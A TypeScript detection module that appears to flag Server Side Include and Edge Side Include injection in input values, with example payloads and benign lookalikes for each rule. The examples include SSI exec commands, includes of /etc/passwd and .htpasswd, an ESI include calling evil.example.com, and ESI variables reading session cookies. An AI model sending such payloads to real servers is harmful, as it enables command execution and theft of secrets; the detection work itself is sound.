import { serverInclude } from '../../grammars/html/server-include.ts';
import { confidence } from '../../placement/confidence.ts';
import { foundBy } from '../../placement/evidence.ts';
import { charClass } from '../../text/char-class.ts';
import { wordSet } from '../../text/words.ts';
import type { ValueRule } from '../rule.ts';

/** `<!--#exec cmd="id" -->` */
export const command: ValueRule = {
  id: 'ssi.command',
  severity: 'critical',
  score: confidence.certain,
  message: 'makes the web server run a command while it puts the page together',
  trigger: {
    literals: [
      ['<!--', '#'],
      ['exec', 'perl', 'odbc'],
    ],
  },
  judge: (subject) =>
    subject
      .tokens(serverInclude)
      .find(({ kind, name, attribute }) => kind === 'ssi' && runs(name, attribute)),
  examples: [
    ...['<!--#exec cmd="ls -la" -->', "<!--# exec cmd='id'-->", 'Nice! <!--#EXEC CMD=whoami -->'],
    ...['<!-- #exec cgi="/cgi-bin/x.cgi" -->', '<!--#perl sub="sub { system q(id) }" -->'],
    '#exec cmd="id" ',
  ],
  lookalikes: [
    ...['<!-- exec summary goes here -->', '<!-- #executive summary -->', '<!-- perl and odbc -->'],
    'the #exec directive of SSI is switched off here <!-- see the manual -->',
  ],
};

function runs(name: string, attribute: string): boolean {
  if (name === 'exec') return attribute !== '';
  return (
    (name === 'perl' && (attribute === 'sub' || attribute === 'arg')) ||
    (name === 'odbc' && attribute !== '')
  );
}

/** `<!--#include file="/etc/passwd" -->`, `<!--#fsize …-->`, `<!--#flastmod …-->` */
export const include: ValueRule = {
  id: 'ssi.include',
  score: confidence.certain,
  message: 'makes the web server put a file of its own into the page',
  trigger: {
    literals: [
      ['<!--', '#'],
      ['include', 'fsize', 'flastmod'],
    ],
  },
  judge: (subject) =>
    subject
      .tokens(serverInclude)
      .find(
        ({ kind, name, attribute }) => kind === 'ssi' && names.has(name) && sources.has(attribute),
      ),
  examples: [
    ...['<!--#include file="../../config.php" -->', "<!--#include virtual='/server-status' -->"],
    ...['<!--#fsize file=/etc/hosts -->', 'x<!-- #include virtual=.htpasswd -->'],
    ...['<!--#flastmod virtual="echo.html" -->', '#include virtual="/admin/list" wait="yes" '],
    '# include file=\'notes.html\' --><!--# echo var="pid"',
  ],
  lookalikes: [
    ...['<!-- include the logo here -->', '<!-- #includes: header, footer -->'],
    ...['C: #include <stdio.h> /* <!-- no --> */', '<!-- #region include -->'],
    ...['#include "file.h"\n#include <virtual.h>', 'write #include file="x.html" into the page'],
  ],
};

const names: ReadonlySet<string> = new Set(['include', 'fsize', 'flastmod']);
const sources: ReadonlySet<string> = new Set(['file', 'virtual', 'wait', 'set', 'stub', 'onerror']);

/** `<!--#echo var="DOCUMENT_ROOT" -->`, `<!--#printenv -->`, `<!--#set …-->`, `<!--#if …-->` */
export const variable: ValueRule = {
  id: 'ssi.variable',
  severity: 'medium',
  score: confidence.strong,
  message: 'makes the web server print or set its own variables',
  trigger: {
    literals: [
      ['<!--', '#'],
      ['echo', 'printenv', 'config', 'set', 'if', 'block', 'cookie'],
    ],
  },
  judge: (subject) =>
    subject
      .tokens(serverInclude)
      .find(
        ({ kind, name, attribute }) =>
          kind === 'ssi' &&
          (name === 'printenv' || attributes.get(name)?.includes(attribute) === true),
      ),
  examples: [
    ...['<!--#echo var="SERVER_NAME" -->', '<!--#printenv -->', "<!--#config timefmt='%Y' -->"],
    ...['<!--#set var=x value=y -->', '<!--#if expr="$REMOTE_ADDR = /^127/" -->'],
    ...["Hello <!--#echo encoding='none' var='DATE_LOCAL'-->", '#config errmsg="gone"'],
    '#echo var=\'nick\' default="none" ',
  ],
  lookalikes: [
    ...['<!-- #region settings -->', '<!--[if lt IE 9]> old <![endif]-->', '#config #set #echo'],
    ...['<!-- set the title, echo the name -->', '<!-- #if we keep this section -->'],
    ...['<!-- prettier-ignore #config -->', '#set var="x" is what I wrote in the page'],
    '#if DEBUG == "yes"',
  ],
};

/** The attributes that each directive takes. */
const attributes: ReadonlyMap<string, readonly string[]> = new Map([
  ['echo', ['var', 'encoding', 'decoding', 'default']],
  ['config', ['errmsg', 'echomsg', 'sizefmt', 'timefmt']],
  ['set', ['var', 'value', 'encoding', 'decoding']],
  ['if', ['expr']],
  ['elif', ['expr']],
  ['block', ['name']],
]);

/** `<esi:include src="http://…"/>`, `<esi:debug/>`, `<!--esi …-->` */
export const edge: ValueRule = {
  id: 'ssi.edge',
  score: confidence.certain,
  message: 'is an Edge Side Include that a cache would carry out',
  trigger: { literals: [['<esi:', '</esi:', '<!--esi']] },
  judge: (subject) =>
    subject
      .tokens(serverInclude)
      .find(({ kind, name }) => kind === 'esi-comment' || (kind === 'esi' && elements.has(name))),
  examples: [
    ...['<esi:include src="http://evil.example.com/x"/>', 'x<esi:debug/>'],
    ...['<esi:vars>$(HTTP_COOKIE{session})</esi:vars>', '<!--esi $(HTTP_HOST) -->'],
    '<ESI:INLINE name="/a.html" fetchable="yes">b</ESI:INLINE>',
    '<esi:assign name="a" value="b"/>',
  ],
  lookalikes: [
    ...['ESI stands for Edge Side Includes', '<esi> is my nick name', '<!-- esi is off -->'],
    'xmlns:esi="http://www.edge-delivery.org/esi/1.0"',
  ],
};

const elements: ReadonlySet<string> = wordSet(
  'include inline debug vars assign remove comment try attempt except choose when',
  'otherwise text eval function return foreach break environment dictionary',
);

/** `$(HTTP_COOKIE{session})`: a variable of Edge Side Includes, which a cache fills in. */
export const edgeVariable: ValueRule = {
  id: 'ssi.edge-variable',
  severity: 'medium',
  score: confidence.strong,
  message: 'asks a cache to put in a header, cookie or parameter of the request',
  trigger: {
    classes: charClass.dollar | charClass.paren,
    literals: [['$(http_', '$(query_string']],
  },
  examples: ['$(HTTP_COOKIE{session})', 'a$(HTTP_HEADER{Authorization})b', '$(QUERY_STRING)'],
  lookalikes: [
    ...['export URL=$(HTTP_PROXY)', '$(http_get "$1")'],
    'make: $(HTTP_FLAGS) and $(QUERY_STRING) are variables of mine',
  ],
  judge: ({ text }) => foundBy(edgeVariablePattern.exec(text)),
};

const edgeVariablePattern =
  /\$\((?:HTTP_[A-Z_]{2,40}|QUERY_STRING)\{['"]?[\w-]{1,60}['"]?(?:\}|\|)|^\$\((?:QUERY_STRING|HTTP_COOKIE|HTTP_HOST|HTTP_REFERER|HTTP_USER_AGENT)\)$/;
